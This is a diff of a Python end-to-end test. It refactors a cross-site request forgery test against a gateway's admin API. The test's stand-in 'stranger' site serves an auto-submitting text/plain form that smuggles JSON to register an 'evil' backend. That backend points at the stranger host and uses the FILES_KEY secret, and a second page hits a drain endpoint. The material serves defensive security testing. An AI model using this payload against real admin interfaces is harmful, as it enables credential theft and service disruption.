@@ -201,9 +201,10 @@ def browser():
 
 @pytest.mark.e2e
 def test_a_form_of_another_site_in_a_browser_that_has_the_password(gateway, stranger, browser):
+    backend = f'"url":"{stranger}","priority":0,"type":"generic","api_key_env":"FILES_KEY"'
     Stranger.pages["/form"] = f"""
         <form method=post enctype="text/plain" action="{gateway.operations}/admin/backends">
-        <input name='{{"url":"{stranger}","priority":0,"type":"generic","api_key_env":"FILES_KEY","name":"evil' value='"}}'>
+        <input name='{{{backend},"name":"evil' value='"}}'>
         </form><script>document.forms[0].submit()</script>"""
     Stranger.pages["/drain"] = f"""
         <form method=post action="{gateway.operations}/admin/backends/demo/drain"></form>
